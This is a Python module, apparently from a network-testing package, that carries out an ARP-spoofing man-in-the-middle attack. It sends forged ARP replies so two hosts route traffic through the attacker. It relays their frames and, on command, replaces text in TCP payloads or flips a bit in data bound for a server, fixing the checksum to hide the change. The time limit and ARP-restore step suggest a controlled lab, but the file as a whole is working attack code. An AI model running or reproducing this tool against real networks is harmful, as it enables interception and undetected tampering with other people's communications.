"""Stand between two hosts by false ARP replies (RFC 826), pass on what they say, and change it.

Commands, a line each. "replace" changes a text on its way to `server` into another of the same
length, and back on its way from there, wherever one segment holds it; "flip" changes one bit of the
next segment with data towards `server`; "pass" changes nothing; "truth" tells both hosts again
where the other one is, which is done in the end at any rate.
"""

from __future__ import annotations

import select
import socket
import struct
import sys
import time

from . import guard, packets

LONGEST_S = 60.0
EVERY_S = 0.2
ETH_P_ALL, ARP, IPV4 = 0x0003, b"\x08\x06", b"\x08\x00"  # packet(7), IEEE 802
REPLY = 2
TRUTHS = 8  # a host keeps for a second what it was told first (arp(7), locktime)
SHORTEST = 24  # bytes of data; shorter ones are questions and answers about nothing


class Relay:
    """One attack: who is deceived, and what is done to what they say."""

    def __init__(self, told: dict[str, object], link: socket.socket) -> None:
        targets: dict[str, dict[str, str]] = told["targets"]  # type: ignore[assignment] # from JSON
        here: dict[str, str] = told["here"]  # type: ignore[assignment] # as above
        self.link = link
        self.own = bytes.fromhex(here["mac"].replace(":", ""))
        self.macs = {
            socket.inet_aton(guard.address_of(each)): bytes.fromhex(each["mac"].replace(":", ""))
            for each in targets.values()
        }
        self.server = socket.inet_aton(guard.address_of(targets[str(told["server"])]))
        self.find, self.put = str(told["find"]).encode(), str(told["put"]).encode()
        self.mode = "pass"
        self.relayed = self.changed = 0

    def deceive(self, *, lie: bool = True) -> None:
        """Tell each of both that the other one is here, or where it is."""
        first, second = self.macs
        for target, other in ((first, second), (second, first)):
            claimed = self.own if lie else self.macs[other]
            body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, REPLY)
            body += claimed + other + self.macs[target] + target
            self.link.send(self.macs[target] + self.own + ARP + body)

    def take(self, frame: bytes) -> None:
        """Pass on a frame that one of both sent here for the other."""
        source, target = frame[26:30], frame[30:34]
        if frame[:6] != self.own or frame[12:14] != IPV4:
            return
        if source not in self.macs or target not in self.macs or frame[6:12] != self.macs[source]:
            return
        self.relayed += 1
        self.link.send(self.macs[target] + self.own + IPV4 + self.altered(frame[14:]))

    def altered(self, packet: bytes) -> bytes:
        """Return an IPv4 packet, changed if it is to be; TCP's checksum is made right again."""
        size = struct.unpack(">H", packet[2:4])[0]
        packet = packet[:size]  # a short frame is padded
        head = (packet[0] & 15) * 4
        if packet[9] != packets.TCP or self.mode in {"pass", "truth"}:
            return packet
        start = head + (packet[head + 12] >> 4) * 4
        data = packet[start:]
        if self.mode == "replace":
            # What comes back is changed back, so that who wrote sees what was written.
            away = packet[16:20] == self.server
            new = data.replace(*((self.find, self.put) if away else (self.put, self.find)))
        elif packet[16:20] == self.server and len(data) >= SHORTEST:
            place = len(data) * 3 // 4  # past what says to whom it goes, before what closes it
            new = data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :]
            self.mode = "pass"
        else:
            new = data
        if new == data:
            return packet
        self.changed += 1
        segment = bytearray(packet[head:start] + new)
        segment[16:18] = b"\0\0"
        ends = packet[12:20] + struct.pack(">BBH", 0, packets.TCP, len(segment))
        segment[16:18] = struct.pack(">H", packets.checksum(ends + bytes(segment)))
        guard.say(event="changed", bytes=len(new))
        return packet[:head] + bytes(segment)


def main() -> None:
    """Deceive and relay until told to end."""
    told = guard.take_order()
    clock = guard.Clock(LONGEST_S)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as link:
        link.bind((told["here"]["adapter"], ETH_P_ALL))
        relay = Relay(told, link)
        following = 0.0
        guard.say(event="ready")
        while clock.left:
            if time.monotonic() >= following:
                relay.deceive(lie=relay.mode != "truth")
                following = time.monotonic() + EVERY_S
            ready, _, _ = select.select([sys.stdin, link], [], [], EVERY_S)
            if sys.stdin in ready:
                word = sys.stdin.readline().strip()
                if not word:
                    break
                relay.mode = word
                guard.say(event="mode", mode=word)
            if link in ready:
                frame, where = link.recvfrom(65536)
                if where[2] != socket.PACKET_OUTGOING:
                    relay.take(frame)
        for _ in range(TRUTHS if relay.mode != "truth" else 0):
            relay.deceive(lie=False)
            time.sleep(EVERY_S)
        guard.say(event="done", relayed=relay.relayed, changed=relay.changed)


if __name__ == "__main__":
    main()
